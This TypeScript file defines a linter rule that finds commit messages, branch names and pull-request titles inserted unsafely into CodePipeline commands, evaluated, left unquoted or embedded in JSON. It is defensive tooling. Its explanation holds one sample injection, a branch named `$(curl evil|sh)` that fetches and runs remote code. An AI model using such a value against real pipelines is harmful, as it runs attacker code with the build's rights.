import { defineRule } from '../../src/rule/index.ts';

export default defineRule({
  id: 'variable-injection',
  since: '0.1.0',
  status: 'stable',
  severity: 'high',
  confidence: 'high',
  audience: 'default',
  subject: ['shell-command', 'variable-use'],
  controls: ['owasp-cicd:CICD-SEC-4', 'nist-800-53:SI-10'],
  peers: [],
  docs: {
    title: 'Text of outsiders put into a command line or JSON',
    what: 'Finds commit messages, branch names and other texts that committers choose where they are read as code: put into the commands of an action, evaluated again, unquoted in a buildspec, or, for messages and titles, put into the JSON of an action.',
    why: 'A branch called `$(curl evil|sh)` is a branch. Whoever may open a pull request or push anywhere then runs commands with the rights of the build. A message with a quotation mark or a second line breaks the JSON, and the action fails; a crafted one adds values of its own.',
    fix: 'Hand the text over as an environment variable, quote it where it is used (`"$BRANCH"`), and never evaluate it. Hand over the commit id rather than its message, and read the message in the build.',
    references: [
      'https://docs.aws.amazon.com/codepipeline/latest/userguide/reference-variables.html',
      'https://github.com/aws/aws-cdk/issues/8458',
    ],
  },
  messages: {
    inserted: (d: { action: string; variable: string }) =>
      `${d.action} puts ${d.variable} into its commands, before any shell can quote it`,
    json: (d: { action: string; variable: string; key: string }) =>
      `${d.action} puts ${d.variable} into the JSON of ${d.key}, which a quotation mark or line break in it breaks`,
    evaluated: (d: { by: string; variable: string }) => `${d.by} evaluates $${d.variable}, which outsiders choose`,
    unquoted: (d: { by: string; variable: string }) => `${d.by} uses $${d.variable} unquoted, which outsiders choose`,
  },
  supersedes: [],
  check(subject, ctx) {
    if (subject.kind === 'variable-use') {
      const { action, at, key, outside, variable, withinJson } = subject;
      if (outside && key === 'Commands') ctx.fail('inserted', at, { action: action.name, variable });
      if (withinJson && FREE.has(variable)) ctx.fail('json', at, { action: action.name, variable, key }, { severity: 'medium' });
      return;
    }
    const { lines, outside, at, by } = subject;
    for (const variable of new Set(outside)) {
      if (lines.some((line) => evaluates(line, variable))) ctx.fail('evaluated', at, { by: by.name, variable });
      else if (lines.some((line) => leavesOpen(line, variable)))
        ctx.fail('unquoted', at, { by: by.name, variable }, { severity: 'medium', confidence: 'medium' });
    }
  },
});

/** Texts of any characters; names of branches and people rarely hold a quotation mark. */
const FREE = new Set(['CommitMessage', 'PullRequestTitle']);

const reference = (variable: string): string => `\\$(?:${variable}\\b|\\{${variable}[^}]*\\})`;

function evaluates(line: string, variable: string): boolean {
  return new RegExp(`\\beval\\b.*${reference(variable)}|\\b(?:ba|z)?sh\\s+-c\\s+"[^"]*${reference(variable)}`).test(line);
}

/** Outside of quotes, and neither assigned nor compared nor cut down. */
function leavesOpen(line: string, variable: string): boolean {
  const bare = line.replace(/'[^']*'|"(?:[^"\\]|\\.)*"/g, '').replace(/\[\[.*?\]\]|\bcase\b.*?\bin\b|\b\w+=\S+|\becho\b[^|;&]*/g, '');
  return new RegExp(reference(variable)).test(bare);
}
